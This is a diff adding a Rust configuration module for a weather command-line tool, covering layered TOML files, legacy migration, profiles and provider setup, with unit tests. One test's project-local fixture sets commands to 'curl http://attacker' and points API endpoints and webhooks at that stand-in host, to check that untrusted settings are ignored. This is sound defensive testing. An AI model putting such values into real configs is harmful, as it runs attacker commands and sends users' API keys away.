@@ -0,0 +1,1171 @@
+use std::{
+    collections::BTreeMap,
+    fs::OpenOptions,
+    io::Write,
+    path::{Path, PathBuf},
+    time::Duration,
+};
+
+use directories::ProjectDirs;
+use serde::{Deserialize, Serialize};
+
+use crate::{
+    alerts::AlertSettings,
+    cache::{Cache, CachedProvider, DEFAULT_TTL},
+    cli::{Provider, ProviderArgs, RequestArgs},
+    error::{Error, Result},
+    location::Location,
+    network::NetworkSettings,
+    output::OutputFormat,
+    providers::{
+        AggregateProvider, FallbackProvider, LazyProvider, ProviderUserInfo, WeatherProvider,
+    },
+    units::UnitSettings,
+    usage::Limits,
+};
+
+/// The name of the configuration file in the configuration directory of the user.
+const CONFIG_FILE_NAME: &str = "config.toml";
+
+/// The name of the JSON configuration file written by older versions.
+const LEGACY_CONFIG_FILE_NAME: &str = "config.json";
+
+/// The name of the project-local configuration file, looked up in the current directory and its
+/// parents.
+pub const PROJECT_CONFIG_FILE_NAME: &str = ".weather.toml";
+
+/// The configuration file shared by all users of the system.
+#[cfg(unix)]
+const SYSTEM_CONFIG_FILE: Option<&str> = Some("/etc/weather/config.toml");
+#[cfg(not(unix))]
+const SYSTEM_CONFIG_FILE: Option<&str> = None;
+
+/// A struct representing where the application keeps its files.
+#[derive(Debug, Clone)]
+pub struct Paths {
+    /// The configuration directory of the user.
+    pub config_dir: PathBuf,
+
+    /// The configuration file written by the configure commands: the file given with `--config`,
+    /// or the configuration file of the user.
+    pub config_file: PathBuf,
+
+    /// The configuration files read, from the lowest to the highest precedence. Files that don't
+    /// exist are skipped.
+    pub config_layers: Vec<PathBuf>,
+
+    /// The project-local configuration file among the layers, if any. It may come with a checked
+    /// out repository, so the settings running commands or sending the API keys or alerts to
+    /// another host are ignored in it.
+    pub project_file: Option<PathBuf>,
+
+    /// The profile selected with `--profile`, read from and written to instead of the top level
+    /// settings.
+    pub profile: Option<String>,
+
+    /// The directory responses are cached in.
+    pub cache_dir: PathBuf,
+
+    /// The directory the usage counters are kept in.
+    pub data_dir: PathBuf,
+}
+
+impl Paths {
+    /// Returns the paths in the directories of the current user, creating the configuration
+    /// directory.
+    ///
+    /// The configuration is read from the system file, the file of the user, the nearest
+    /// project-local file and the file given with `--config`, in this order. The project-local
+    /// file is trusted like the others when it is the file given with `--config`.
+    ///
+    /// # Arguments
+    ///
+    /// * `config` - The configuration file given with `--config`, if any.
+    /// * `profile` - The profile selected with `--profile`, if any.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the directories of the user cannot be found or the configuration
+    /// directory cannot be created.
+    pub fn from_user_dirs(config: Option<&Path>, profile: Option<&str>) -> Result<Self> {
+        let Some(proj_dirs) = ProjectDirs::from("com", "MyOrg", "Weather") else {
+            return Err(Error::NoConfigDirectory);
+        };
+        let config_dir = proj_dirs.config_dir();
+        std::fs::create_dir_all(config_dir)?;
+        let user_file = config_dir.join(CONFIG_FILE_NAME);
+
+        let mut config_layers: Vec<PathBuf> =
+            SYSTEM_CONFIG_FILE.map(PathBuf::from).into_iter().collect();
+        config_layers.push(user_file.clone());
+        let project_file = find_project_file().filter(|file| Some(file.as_path()) != config);
+        config_layers.extend(project_file.clone());
+        config_layers.extend(config.map(Path::to_owned));
+
+        Ok(Self {
+            config_dir: config_dir.to_owned(),
+            config_file: config.map_or(user_file, Path::to_owned),
+            config_layers,
+            project_file,
+            profile: profile.map(str::to_owned),
+            cache_dir: proj_dirs.cache_dir().to_owned(),
+            data_dir: proj_dirs.data_dir().to_owned(),
+        })
+    }
+
+    /// Returns the file the calls made with each key are counted in.
+    pub fn usage_file(&self) -> PathBuf {
+        self.data_dir.join("usage.json")
+    }
+}
+
+/// Returns the nearest project-local configuration file in the current directory or its parents.
+fn find_project_file() -> Option<PathBuf> {
+    let current = std::env::current_dir().ok()?;
+    current
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILE_NAME))
+        .find(|file| file.is_file())
+}
+
+/// A struct representing the application configuration, either the settings of a single layer or
+/// profile, or all of them merged.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct Config {
+    /// The configured weather providers, in the order of preference.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub providers: Vec<ProviderUserInfo>,
+
+    /// Whether to ask the next provider when the preferred one fails.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub fallback: Option<bool>,
+
+    /// The location weather data is requested for when none is given, which may be the name of a
+    /// saved place.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub location: Option<String>,
+
+    /// The saved places by name, which can be given instead of their location.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub places: BTreeMap<String, String>,
+
+    /// The default format weather data is printed in.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub output: Option<OutputFormat>,
+
+    /// The default units weather data is presented in.
+    #[serde(default, skip_serializing_if = "UnitSettings::is_empty")]
+    pub units: UnitSettings,
+
+    /// The time to live of cached current weather and forecasts in seconds.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub cache_ttl: Option<u64>,
+
+    /// The default timeouts and retries of requests.
+    #[serde(default, skip_serializing_if = "NetworkSettings::is_empty")]
+    pub network: NetworkSettings,
+
+    /// The alert rules and where alerts are sent.
+    #[serde(default, skip_serializing_if = "AlertSettings::is_empty")]
+    pub alerts: AlertSettings,
+}
+
+/// The layout of a TOML configuration file: the top level settings, and the settings of each
+/// profile overriding them.
+#[derive(Debug, Default, Serialize, Deserialize)]
+struct ConfigFile {
+    #[serde(flatten)]
+    config: Config,
+
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    profiles: BTreeMap<String, Config>,
+}
+
+impl ConfigFile {
+    /// Reads a TOML configuration file, or returns `None` if it doesn't exist.
+    fn read(file: &Path) -> Result<Option<Self>> {
+        let data = match std::fs::read_to_string(file) {
+            Ok(data) => data,
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
+            Err(e) => return Err(e.into()),
+        };
+        toml::from_str(&data)
+            .map(Some)
+            .map_err(|e| Error::CorruptConfig {
+                path: file.to_owned(),
+                message: e.message().to_owned(),
+            })
+    }
+
+    /// Removes the settings only trusted files may set from the top level settings and the
+    /// profiles, returning the keys of those that were set.
+    fn remove_untrusted(&mut self) -> Vec<String> {
+        let mut removed = self.config.remove_untrusted();
+        for (name, profile) in &mut self.profiles {
+            removed.extend(
+                profile
+                    .remove_untrusted()
+                    .into_iter()
+                    .map(|key| format!("profiles.{name}.{key}")),
+            );
+        }
+        removed
+    }
+
+    /// Writes the file readable by the user only, as it holds the API keys. The file is replaced
+    /// at once, so that it is never left half written or briefly readable by others.
+    fn write(&self, file: &Path) -> Result<()> {
+        if let Some(dir) = file.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        let data = toml::to_string(self)?;
+        let tmp = file.with_extension(format!("toml.{}.tmp", std::process::id()));
+        let mut options = OpenOptions::new();
+        options.write(true).create_new(true);
+        #[cfg(unix)]
+        std::os::unix::fs::OpenOptionsExt::mode(&mut options, 0o600);
+        let written = options
+            .open(&tmp)
+            .and_then(|mut out| out.write_all(data.as_bytes()));
+        match written.and_then(|_| std::fs::rename(&tmp, file)) {
+            Ok(()) => Ok(()),
+            Err(e) => {
+                let _ = std::fs::remove_file(&tmp);
+                Err(e.into())
+            }
+        }
+    }
+}
+
+/// Makes a file holding API keys readable by the user only.
+fn restrict_permissions(file: &Path) -> Result<()> {
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(file, std::fs::Permissions::from_mode(0o600))?;
+    }
+    #[cfg(not(unix))]
+    let _ = file;
+    Ok(())
+}
+
+/// The provider user info as written by older versions, tagged with the name of the variant.
+#[derive(Deserialize)]
+enum LegacyProviderUserInfo {
+    OpenWeather {
+        api_key: String,
+        #[serde(default)]
+        base_url: Option<String>,
+        #[serde(default)]
+        history_base_url: Option<String>,
+        #[serde(default)]
+        limits: Limits,
+    },
+    WeatherApi {
+        api_key: String,
+        #[serde(default)]
+        base_url: Option<String>,
+        #[serde(default)]
+        limits: Limits,
+    },
+}
+
+impl From<LegacyProviderUserInfo> for ProviderUserInfo {
+    fn from(info: LegacyProviderUserInfo) -> Self {
+        match info {
+            LegacyProviderUserInfo::OpenWeather {
+                api_key,
+                base_url,
+                history_base_url,
+                limits,
+            } => ProviderUserInfo::OpenWeather {
+                api_key,
+                api_key_cmd: None,
+                base_url,
+                history_base_url,
+                limits,
+            },
+            LegacyProviderUserInfo::WeatherApi {
+                api_key,
+                base_url,
+                limits,
+            } => ProviderUserInfo::WeatherApi {
+                api_key,
+                api_key_cmd: None,
+                base_url,
+                limits,
+            },
+        }
+    }
+}
+
+/// Layouts of the JSON configuration file written by older versions.
+#[derive(Deserialize)]
+#[serde(untagged)]
+enum LegacyConfigFile {
+    /// Older versions stored only the provider user info.
+    ProviderOnly(LegacyProviderUserInfo),
+    /// Older versions stored a single provider.
+    SingleProvider {
+        provider: LegacyProviderUserInfo,
+        #[serde(default)]
+        units: UnitSettings,
+        #[serde(default)]
+        cache_ttl: Option<u64>,
+    },
+    Providers {
+        #[serde(default)]
+        providers: Vec<LegacyProviderUserInfo>,
+        #[serde(default)]
+        fallback: bool,
+        #[serde(default)]
+        units: UnitSettings,
+        #[serde(default)]
+        cache_ttl: Option<u64>,
+        #[serde(default)]
+        network: NetworkSettings,
+    },
+}
+
+impl Config {
+    /// Reads the configuration to request weather data with: the configuration files merged in
+    /// the order of precedence, then the selected profile of each file merged on top, with the
+    /// API keys given in the environment variables taking precedence over the configured keys.
+    /// Without any configuration file, the providers are the ones with a key in the environment
+    /// variables.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a file cannot be read or is corrupt, the selected profile is in none
+    /// of the files, or no file exists and no key is given in the environment variables.
+    pub fn load(paths: &Paths) -> Result<Self> {
+        let mut files = Vec::new();
+        for layer in &paths.config_layers {
+            let Some(mut file) = ConfigFile::read(layer)? else {
+                continue;
+            };
+            if paths.project_file.as_ref() == Some(layer) {
+                for key in file.remove_untrusted() {
+                    eprintln!(
+                        "Ignoring `{key}` in {}: only the system, user and --config files may set it",
+                        layer.display()
+                    );
+                }
+            }
+            files.push(file);
+        }
+        let from_env = ProviderUserInfo::from_env();
+        if files.is_empty() && from_env.is_empty() {
+            return Err(Error::ConfigNotFound(paths.config_file.clone()));
+        }
+
+        let mut config = Config::default();
+        for file in &mut files {
+            config = config.merge(std::mem::take(&mut file.config));
+        }
+        if let Some(profile) = &paths.profile {
+            let profiles: Vec<_> = files
+                .iter_mut()
+                .filter_map(|file| file.profiles.remove(profile))
+                .collect();
+            if profiles.is_empty() {
+                return Err(Error::UnknownProfile(profile.clone()));
+            }
+            for overrides in profiles {
+                config = config.merge(overrides);
+            }
+        }
+
+        for info in from_env {
+            match config
+                .providers
+                .iter_mut()
+                .find(|x| x.kind() == info.kind())
+            {
+                Some(existing) => existing.set_api_key(info.api_key().to_owned()),
+                None => config.providers.push(info),
+            }
+        }
+        for info in &mut config.providers {
+            info.set_limits(info.limits().effective());
+        }
+        Ok(config)
+    }
+
+    /// Reads the configuration like `load`, or returns the default configuration if there is
+    /// none.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a file cannot be read or is corrupt, or the selected profile is in none
+    /// of the files.
+    pub fn load_or_default(paths: &Paths) -> Result<Self> {
+        match Self::load(paths) {
+            Err(Error::ConfigNotFound(_)) => Ok(Self::default()),
+            result => result,
+        }
+    }
+
+    /// Changes the settings in the configuration file written by the configure commands, or the
+    /// settings of the selected profile in it.
+    ///
+    /// # Arguments
+    ///
+    /// * `paths` - The `Paths` of the configuration file to be written and the selected profile.
+    /// * `change` - The change to the settings, which may fail to leave the file unchanged.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file is corrupt or cannot be written, or `change` fails.
+    pub fn update(paths: &Paths, change: impl FnOnce(&mut Config) -> Result<()>) -> Result<()> {
+        let mut file = ConfigFile::read(&paths.config_file)?.unwrap_or_default();
+        let config = match &paths.profile {
+            Some(profile) => file.profiles.entry(profile.clone()).or_default(),
+            None => &mut file.config,
+        };
+        change(config)?;
+        file.write(&paths.config_file)
+    }
+
+    /// Migrates the JSON configuration file written by older versions of the user to a TOML
+    /// file, keeping the JSON file with a `.bak` extension. Nothing is done if the TOML file
+    /// already exists.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the JSON file cannot be read or is corrupt, or the TOML file cannot be
+    /// written.
+    pub fn migrate_legacy(paths: &Paths) -> Result<()> {
+        let legacy = paths.config_dir.join(LEGACY_CONFIG_FILE_NAME);
+        let file = paths.config_dir.join(CONFIG_FILE_NAME);
+        if file.exists() || !legacy.exists() {
+            return Ok(());
+        }
+        let config = Self::from_json_file(&legacy)?;
+        ConfigFile {
+            config,
+            ..Default::default()
+        }
+        .write(&file)?;
+        let backup = legacy.with_extension("json.bak");
+        std::fs::rename(&legacy, &backup)?;
+        restrict_permissions(&backup)?;
+        eprintln!(
+            "Migrated the configuration from {} to {}",
+            legacy.display(),
+            file.display()
+        );
+        Ok(())
+    }
+
+    /// Reads the configuration from a JSON file written by older versions.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the file doesn't exist, cannot be read or is corrupt.
+    pub fn from_json_file(file: &Path) -> Result<Self> {
+        let reader = std::fs::File::open(file).map_err(|e| match e.kind() {
+            std::io::ErrorKind::NotFound => Error::ConfigNotFound(file.to_owned()),
+            _ => e.into(),
+        })?;
+        let legacy = serde_json::from_reader(reader).map_err(|e| Error::CorruptConfig {
+            path: file.to_owned(),
+            message: e.to_string(),
+        })?;
+        let config = match legacy {
+            LegacyConfigFile::ProviderOnly(provider) => Config {
+                providers: vec![provider.into()],
+                ..Default::default()
+            },
+            LegacyConfigFile::SingleProvider {
+                provider,
+                units,
+                cache_ttl,
+            } => Config {
+                providers: vec![provider.into()],
+                units,
+                cache_ttl,
+                ..Default::default()
+            },
+            LegacyConfigFile::Providers {
+                providers,
+                fallback,
+                units,
+                cache_ttl,
+                network,
+            } => Config {
+                providers: providers.into_iter().map(Into::into).collect(),
+                fallback: fallback.then_some(true),
+                units,
+                cache_ttl,
+                network,
+                ..Default::default()
+            },
+        };
+        Ok(config)
+    }
+
+    /// Merges `other` on top of this configuration, the settings of `other` are overridden. The
+    /// providers of `other` are preferred over the others, and override only the settings they
+    /// set in the user info of the same providers.
+    pub fn merge(self, other: Config) -> Config {
+        let mut providers = other.providers;
+        for info in self.providers {
+            match providers.iter_mut().find(|x| x.kind() == info.kind()) {
+                Some(higher) => *higher = info.merge(higher.clone()),
+                None => providers.push(info),
+            }
+        }
+        let mut places = self.places;
+        places.extend(other.places);
+        Config {
+            providers,
+            fallback: other.fallback.or(self.fallback),
+            location: other.location.or(self.location),
+            places,
+            output: other.output.or(self.output),
+            units: self.units.merge(other.units),
+            cache_ttl: other.cache_ttl.or(self.cache_ttl),
+            network: self.network.merge(other.network),
+            alerts: self.alerts.merge(other.alerts),
+        }
+    }
+
+    /// Removes the settings that run commands or send the API keys or alerts to another host,
+    /// which only trusted files may set, returning the keys of those that were set.
+    fn remove_untrusted(&mut self) -> Vec<String> {
+        let mut removed: Vec<_> = self
+            .providers
+            .iter_mut()
+            .flat_map(|info| {
+                let name = info.name();
+                info.remove_untrusted()
+                    .into_iter()
+                    .map(move |setting| format!("providers.{name}.{setting}"))
+            })
+            .collect();
+        removed.extend(
+            self.alerts
+                .remove_untrusted()
+                .into_iter()
+                .map(|setting| format!("alerts.{setting}")),
+        );
+        removed
+    }
+
+    /// Returns the given location, or the default location if none is given. The names of saved
+    /// places are replaced by their location, saved places take precedence over cities of the
+    /// same name.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if no location is given and no valid default location is configured.
+    pub fn location(&self, location: Option<&Location>) -> Result<Location> {
+        let location = match (location, &self.location) {
+            (Some(location), _) => location.clone(),
+            (None, Some(default)) => default.parse()?,
+            (None, None) => return Err(Error::NoLocation),
+        };
+        match &location {
+            Location::City(name) => match self.places.get(name) {
+                Some(place) => place.parse(),
+                None => Ok(location),
+            },
+            _ => Ok(location),
+        }
+    }
+
+    /// Returns the given saved places or locations with their names, as given. If none are
+    /// given, returns all saved places, or the default location if there are none.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if a location is invalid, or there is no location.
+    pub fn named_locations(&self, locations: &[String]) -> Result<Vec<(String, Location)>> {
+        let names: Vec<String> = if !locations.is_empty() {
+            locations.to_vec()
+        } else if !self.places.is_empty() {
+            self.places.keys().cloned().collect()
+        } else {
+            self.location.iter().cloned().collect()
+        };
+        if names.is_empty() {
+            return Err(Error::NoLocation);
+        }
+        names
+            .into_iter()
+            .map(|name| {
+                let location = self.location(Some(&name.parse()?))?;
+                Ok((name, location))
+            })
+            .collect()
+    }
+
+    /// Returns the given output format, or the default output format if none is given.
+    pub fn output(&self, output: Option<OutputFormat>) -> OutputFormat {
+        output.or(self.output).unwrap_or_default()
+    }
+
+    /// Returns whether falling back to the next provider is enabled.
+    pub fn fallback(&self) -> bool {
+        self.fallback.unwrap_or(false)
+    }
+
+    /// Returns the user info of the given provider.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the provider has not been configured.
+    pub fn provider(&self, kind: Provider) -> Result<&ProviderUserInfo> {
+        self.providers
+            .iter()
+            .find(|x| x.kind() == kind)
+            .ok_or(Error::ProviderNotConfigured)
+    }
+
+    /// Adds the provider user info, replacing the user info of the same provider if there is one
+    /// while keeping its position in the order of preference.
+    pub fn set_provider(&mut self, info: ProviderUserInfo) {
+        match self.providers.iter_mut().find(|x| x.kind() == info.kind()) {
+            Some(existing) => *existing = info,
+            None => self.providers.push(info),
+        }
+    }
+
+    /// Moves the given providers to the front of the order of preference, in the given order.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if any of the providers has not been configured.
+    pub fn reorder_providers(&mut self, order: &[Provider]) -> Result<()> {
+        let mut reordered = Vec::with_capacity(self.providers.len());
+        for kind in order {
+            reordered.push(self.provider(*kind)?.clone());
+        }
+        reordered.extend(
+            self.providers
+                .drain(..)
+                .filter(|x| !order.contains(&x.kind())),
+        );
+        self.providers = reordered;
+        Ok(())
+    }
+
+    /// Returns the time to live of cached current weather and forecasts.
+    pub fn cache_ttl(&self) -> Duration {
+        self.cache_ttl
+            .map(Duration::from_secs)
+            .unwrap_or(DEFAULT_TTL)
+    }
+
+    /// Builds the weather provider selected by the command line arguments.
+    ///
+    /// Unless a specific provider is selected, the most preferred provider is used, falling back
+    /// to the others in the order of preference if fallback is enabled.
+    ///
+    /// # Arguments
+    ///
+    /// * `args` - A `ProviderArgs` representing the provider selection made on the command line.
+    /// * `paths` - The `Paths` of the response cache and the usage counters.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if no provider, or the selected provider, has not been configured.
+    pub fn build_provider(
+        &self,
+        args: &ProviderArgs,
+        paths: &Paths,
+    ) -> Result<Box<dyn WeatherProvider>> {
+        if args.aggregate {
+            return Ok(Box::new(self.build_aggregate(&args.request, paths)?));
+        }
+        let infos = match args.provider {
+            Some(kind) => vec![self.provider(kind)?],
+            None if args.fallback || self.fallback() => self.providers.iter().collect(),
+            None => self.providers.iter().take(1).collect(),
+        };
+        let mut providers = self.build_named(infos, &args.request, paths)?;
+        match providers.len() {
+            0 => Err(Error::ProviderNotConfigured),
+            1 => Ok(providers.remove(0).1),
+            _ => Ok(Box::new(FallbackProvider::new(providers))),
+        }
+    }
+
+    /// Builds a provider asking all configured providers concurrently.
+    ///
+    /// # Arguments
+    ///
+    /// * `request` - A `RequestArgs` representing how to send requests, selected on the command line.
+    /// * `paths` - The `Paths` of the response cache and the usage counters.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if no provider has been configured.
+    pub fn build_aggregate(
+        &self,
+        request: &RequestArgs,
+        paths: &Paths,
+    ) -> Result<AggregateProvider> {
+        if self.providers.is_empty() {
+            return Err(Error::ProviderNotConfigured);
+        }
+        Ok(AggregateProvider::new(self.build_all(request, paths)?))
+    }
+
+    /// Builds a provider from each configured user info, in the order of preference, named after
+    /// its provider. User infos of the same provider, e.g. with different keys, are built apart.
+    ///
+    /// # Arguments
+    ///
+    /// * `request` - A `RequestArgs` representing how to send requests, selected on the command line.
+    /// * `paths` - The `Paths` of the response cache and the usage counters.
+    ///
+    /// # Errors
+    ///
+    /// Returns an error if the API key of a provider cannot be resolved.
+    pub fn build_all(
+        &self,
+        request: &RequestArgs,
+        paths: &Paths,
+    ) -> Result<Vec<(&'static str, Box<dyn WeatherProvider>)>> {
+        self.build_named(&self.providers, request, paths)
+    }
+
+    fn build_named<'a>(
+        &self,
+        infos: impl IntoIterator<Item = &'a ProviderUserInfo>,
+        request: &RequestArgs,
+        paths: &Paths,
+    ) -> Result<Vec<(&'static str, Box<dyn WeatherProvider>)>> {
+        let policy = self.network.merge(request.network).resolve(request.verbose);
+        let usage_file = paths.usage_file();
+        infos
+            .into_iter()
+            .map(|info| {
+                let provider: Box<dyn WeatherProvider> = Box::new(LazyProvider::new(
+                    info.clone(),
+                    policy,
+                    Some(usage_file.clone()),
+                ));
+                let provider: Box<dyn WeatherProvider> = if request.no_cache {
+                    provider
+                } else {
+                    Box::new(CachedProvider::new(
+                        provider,
+                        info.name(),
+                        info.endpoint(),
+                        Cache::new(&paths.cache_dir, self.cache_ttl()),
+                    ))
+                };
+                Ok((info.name(), provider))
+            })
+            .collect()
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::units::UnitSystem;
+
+    /// Returns paths reading the given layers from the given directory, and writing the last.
+    fn paths(dir: &Path, layers: &[&str], profile: Option<&str>) -> Paths {
+        let config_layers: Vec<_> = layers.iter().map(|x| dir.join(x)).collect();
+        Paths {
+            config_file: config_layers.last().unwrap().clone(),
+            config_layers,
+            project_file: None,
+            config_dir: dir.to_owned(),
+            profile: profile.map(str::to_owned),
+            cache_dir: dir.join("cache"),
+            data_dir: dir.join("data"),
+        }
+    }
+
+    #[test]
+    fn test_read_legacy() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("config.json");
+        std::fs::write(&file, r#"{"WeatherApi":{"api_key":"key"}}"#).unwrap();
+        let config = Config::from_json_file(&file).unwrap();
+
+        assert!(matches!(
+            config.providers.as_slice(),
+            [ProviderUserInfo::WeatherApi { api_key, base_url: None, .. }] if api_key == "key"
+        ));
+        assert!(config.units.is_empty());
+    }
+
+    #[test]
+    fn test_read_single_provider() {
+        let dir = tempfile::tempdir().unwrap();
+        let file = dir.path().join("config.json");
+        std::fs::write(
+            &file,
+            r#"{"provider":{"OpenWeather":{"api_key":"key"}},"units":{"system":"si"},"cache_ttl":5}"#,
+        )
+        .unwrap();
+        let config = Config::from_json_file(&file).unwrap();
+
+        assert_eq!(config.providers.len(), 1);
+        assert_eq!(config.units.system, Some(UnitSystem::Si));
+        assert_eq!(config.cache_ttl(), Duration::from_secs(5));
+    }
+
+    #[test]
+    fn test_migrate_legacy() {
+        let dir = tempfile::tempdir().unwrap();
+        let paths = paths(dir.path(), &[CONFIG_FILE_NAME], None);
+        let legacy = paths.config_dir.join(LEGACY_CONFIG_FILE_NAME);
+        std::fs::write(
+            &legacy,
+            r#"{"providers":[{"WeatherApi":{"api_key":"key"}}],"fallback":true,"network":{"retries":1}}"#,
+        )
+        .unwrap();
+        Config::migrate_legacy(&paths).unwrap();
+        let config = Config::load(&paths).unwrap();
+
+        assert_eq!(config.providers.len(), 1);
+        assert!(config.fallback());
+        assert_eq!(config.network.retries, Some(1));
+    }
+
+    #[test]
+    fn test_providers_order() {
+        let mut config = Config::default();
+        let weatherapi = |key: &str| ProviderUserInfo::WeatherApi {
+            api_key: key.into(),
+            api_key_cmd: None,
+            base_url: None,
+            limits: Default::default(),
+        };
+        config.set_provider(weatherapi("a"));
+        config.set_provider(ProviderUserInfo::OpenWeather {
+            api_key: "b".into(),
+            api_key_cmd: None,
+            base_url: None,
+            history_base_url: None,
+            limits: Default::default(),
+        });
+        config.set_provider(weatherapi("c"));
+        assert!(matches!(
+            config.providers.as_slice(),
+            [ProviderUserInfo::WeatherApi { api_key, .. }, ProviderUserInfo::OpenWeather { .. }] if api_key == "c"
+        ));
+
+        config.reorder_providers(&[Provider::OpenWeather]).unwrap();
+        assert_eq!(config.providers[0].kind(), Provider::OpenWeather);
+        assert_eq!(config.providers[1].kind(), Provider::WeatherApi);
+    }
+
+    #[test]
+    fn test_read_errors() {
+        let dir = tempfile::tempdir().unwrap();
+        let paths = paths(dir.path(), &[CONFIG_FILE_NAME], None);
+        assert!(matches!(
+            Config::load(&paths),
+            Err(Error::ConfigNotFound(_))
+        ));
+        assert!(Config::load_or_default(&paths).is_ok());
+
+        std::fs::write(&paths.config_file, "providers = [").unwrap();
+        let err = Config::load_or_default(&paths).unwrap_err();
+        assert!(matches!(err, Error::CorruptConfig { .. }));
+    }
+
+    #[test]
+    fn test_places() {
+        let mut config = Config {
+            places: BTreeMap::from([("hq".to_owned(), "51.5,-0.12".to_owned())]),
+            ..Default::default()
+        };
+        let hq = Location::Coordinates(crate::location::Coordinates::new(51.5, -0.12).unwrap());
+        let hq_name = Location::City("hq".into());
+        assert_eq!(config.location(Some(&hq_name)).unwrap(), hq);
+        let paris = Location::City("Paris".into());
+        assert_eq!(config.location(Some(&paris)).unwrap(), paris);
+        assert!(matches!(config.location(None), Err(Error::NoLocation)));
+
+        config.location = Some("hq".into());
+        assert_eq!(config.location(None).unwrap(), hq);
+
+        let merged = config.merge(Config {
+            places: BTreeMap::from([
+                ("hq".to_owned(), "Berlin".to_owned()),
+                ("lab".to_owned(), "Paris".to_owned()),
+            ]),
+            ..Default::default()
+        });
+        assert_eq!(
+            merged.location(None).unwrap(),
+            Location::City("Berlin".into())
+        );
+        assert_eq!(merged.places.len(), 2);
+    }
+
+    #[test]
+    fn test_layers() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut paths = paths(dir.path(), &["system.toml", "user.toml"], None);
+        std::fs::write(
+            &paths.config_layers[0],
+            r#"
+location = "Kyiv"
+output = "json"
+cache_ttl = 60
+
+[[providers]]
+provider = "openweather"
+api_key = "system"
+
+[profiles.work]
+location = "Lviv"
+"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &paths.config_layers[1],
+            r#"
+location = "London"
+
+[units]
+system = "imperial"
+
+[[providers]]
+provider = "weatherapi"
+api_key = "user"
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load(&paths).unwrap();
+        assert_eq!(
+            config.location(None).unwrap(),
+            Location::City("London".into())
+        );
+        assert_eq!(config.output(None), OutputFormat::Json);
+        assert_eq!(config.cache_ttl(), Duration::from_secs(60));
+        assert_eq!(config.units.system, Some(UnitSystem::Imperial));
+        assert_eq!(config.providers[0].kind(), Provider::WeatherApi);
+        assert_eq!(config.providers[1].kind(), Provider::OpenWeather);
+
+        paths.profile = Some("work".into());
+        let config = Config::load(&paths).unwrap();
+        assert_eq!(
+            config.location(None).unwrap(),
+            Location::City("Lviv".into())
+        );
+        assert_eq!(config.output(None), OutputFormat::Json);
+
+        paths.profile = Some("home".into());
+        assert!(matches!(
+            Config::load(&paths),
+            Err(Error::UnknownProfile(_))
+        ));
+    }
+
+    #[test]
+    fn test_provider_layers() {
+        let dir = tempfile::tempdir().unwrap();
+        let paths = paths(dir.path(), &["system.toml", "user.toml"], None);
+        std::fs::write(
+            &paths.config_layers[0],
+            r#"
+[[providers]]
+provider = "weatherapi"
+api_key = "system"
+
+[providers.limits]
+per_day = 0
+
+[[providers]]
+provider = "openweather"
+api_key = "system"
+base_url = "http://proxy"
+
+[providers.limits]
+per_day = 100
+per_month = 1000
+"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &paths.config_layers[1],
+            r#"
+[[providers]]
+provider = "openweather"
+api_key_cmd = "pass show openweather"
+
+[providers.limits]
+per_minute = 10
+per_month = 0
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load(&paths).unwrap();
+        assert_eq!(config.providers[0].kind(), Provider::OpenWeather);
+        assert_eq!(config.providers[1].kind(), Provider::WeatherApi);
+        assert!(matches!(
+            &config.providers[0],
+            ProviderUserInfo::OpenWeather {
+                api_key,
+                api_key_cmd: Some(_),
+                base_url: Some(url),
+                history_base_url: None,
+                ..
+            } if api_key.is_empty() && url == "http://proxy"
+        ));
+        assert_eq!(
+            config.providers[0].limits(),
+            Limits {
+                per_minute: Some(10),
+                per_day: Some(100),
+                per_month: None,
+            }
+        );
+        assert_eq!(config.providers[1].api_key(), "system");
+        // a limit of 0 means no limit, also with no other limit to override
+        assert_eq!(config.providers[1].limits(), Limits::default());
+    }
+
+    #[test]
+    fn test_project_layer() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut paths = paths(
+            dir.path(),
+            &[CONFIG_FILE_NAME, PROJECT_CONFIG_FILE_NAME],
+            None,
+        );
+        paths.project_file = Some(paths.config_layers[1].clone());
+        std::fs::write(
+            &paths.config_layers[0],
+            r#"
+[[providers]]
+provider = "weatherapi"
+api_key = "user"
+base_url = "http://proxy"
+"#,
+        )
+        .unwrap();
+        std::fs::write(
+            &paths.config_layers[1],
+            r#"
+location = "London"
+
+[[providers]]
+provider = "weatherapi"
+api_key_cmd = "curl http://attacker"
+base_url = "http://attacker"
+
+[[providers]]
+provider = "openweather"
+api_key = "project"
+history_base_url = "http://attacker"
+
+[alerts]
+rules = ["wind.speed > 15 m/s"]
+command = "curl http://attacker"
+webhook = "http://attacker"
+
+[[profiles.work.providers]]
+provider = "weatherapi"
+base_url = "http://attacker"
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load(&paths).unwrap();
+        assert_eq!(config.location.as_deref(), Some("London"));
+        assert_eq!(config.alerts.rules.len(), 1);
+        assert_eq!(config.alerts.command, None);
